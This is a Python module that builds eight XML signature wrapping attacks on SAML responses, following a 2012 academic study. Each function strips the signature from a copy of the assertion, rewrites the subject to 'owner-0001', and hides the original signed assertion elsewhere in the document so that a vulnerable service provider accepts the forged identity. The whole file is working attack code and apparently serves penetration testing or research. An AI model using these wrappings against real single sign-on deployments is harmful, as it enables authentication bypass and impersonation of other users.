"""XML signature wrapping: a signed assertion kept somewhere, and a forged one where it is read. Eight places, of the
study by Somorovsky and others (USENIX Security 2012)."""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from typing import Final

from lxml import etree

NAMES: Final = {"a": "urn:oasis:names:tc:SAML:2.0:assertion", "d": "http://www.w3.org/2000/09/xmldsig#"}
Wrapping = Callable[[str, str], etree._Element]


def forged(assertion: etree._Element, identifier: str) -> etree._Element:
    made = copy.deepcopy(assertion)
    made.set("ID", identifier)
    for signature in made.findall("d:Signature", NAMES):
        made.remove(signature)
    name = made.find(".//a:NameID", NAMES)
    assert name is not None
    name.text = "owner-0001"
    return made


def parts(saml: str) -> tuple[etree._Element, etree._Element, etree._Element]:
    root = etree.fromstring(base64.b64decode(saml))
    assertion = root.find("a:Assertion", NAMES)
    assert assertion is not None
    signature = assertion.find("d:Signature", NAMES)
    assert signature is not None
    return root, assertion, signature


def before(saml: str, identifier: str) -> etree._Element:
    root, assertion, _ = parts(saml)
    assertion.addprevious(forged(assertion, identifier))
    return root


def after(saml: str, identifier: str) -> etree._Element:
    root, assertion, _ = parts(saml)
    assertion.addnext(forged(assertion, identifier))
    return root


def around(saml: str, identifier: str) -> etree._Element:
    """The forged one holds the signed one."""
    root, assertion, _ = parts(saml)
    evil = forged(assertion, identifier)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def in_signature(saml: str, identifier: str) -> etree._Element:
    """The forged one holds the signature, and the signature the signed one."""
    root, assertion, signature = parts(saml)
    evil = forged(assertion, identifier)
    root.replace(assertion, evil)
    assertion.remove(signature)
    evil.insert(1, signature)
    kept = etree.SubElement(signature, f"{{{NAMES['d']}}}Object")
    kept.append(assertion)
    return root


def in_extensions(saml: str, identifier: str) -> etree._Element:
    root, assertion, _ = parts(saml)
    evil = forged(assertion, identifier)
    root.replace(assertion, evil)
    extensions = etree.Element("{urn:oasis:names:tc:SAML:2.0:protocol}Extensions")
    extensions.append(assertion)
    root.insert(1, extensions)
    return root


def in_advice(saml: str, identifier: str) -> etree._Element:
    root, assertion, _ = parts(saml)
    evil = forged(assertion, identifier)
    root.replace(assertion, evil)
    advice = etree.Element(f"{{{NAMES['a']}}}Advice")
    advice.append(assertion)
    conditions = evil.find("a:Conditions", NAMES)
    assert conditions is not None
    conditions.addnext(advice)
    return root


def in_attribute(saml: str, identifier: str) -> etree._Element:
    root, assertion, _ = parts(saml)
    evil = forged(assertion, identifier)
    root.replace(assertion, evil)
    value = evil.find(".//a:AttributeValue", NAMES)
    assert value is not None
    value.append(assertion)
    return root


def response_in_response(saml: str, identifier: str) -> etree._Element:
    """The signed response inside of a forged one; `saml` has its signature at the response."""
    root = etree.fromstring(base64.b64decode(saml))
    assertion = root.find("a:Assertion", NAMES)
    assert assertion is not None
    outer = copy.deepcopy(root)
    outer.set("ID", identifier)
    for child in list(outer):
        outer.remove(child)
    for child in root:
        if child.tag != f"{{{NAMES['d']}}}Signature":
            outer.append(copy.deepcopy(child))
    evil = outer.find("a:Assertion", NAMES)
    assert evil is not None
    outer.replace(evil, forged(evil, "_evil2"))
    extensions = etree.Element("{urn:oasis:names:tc:SAML:2.0:protocol}Extensions")
    extensions.append(root)
    outer.insert(1, extensions)
    return outer


WRAPPINGS: Final[tuple[Wrapping, ...]] = (
    before,
    after,
    around,
    in_signature,
    in_extensions,
    in_advice,
    in_attribute,
    response_in_response,
)


def signs_of(wrap: Wrapping) -> tuple[str, ...]:
    """What the provider has signed of what is wrapped."""
    return ("Response",) if wrap is response_in_response else ("Assertion",)
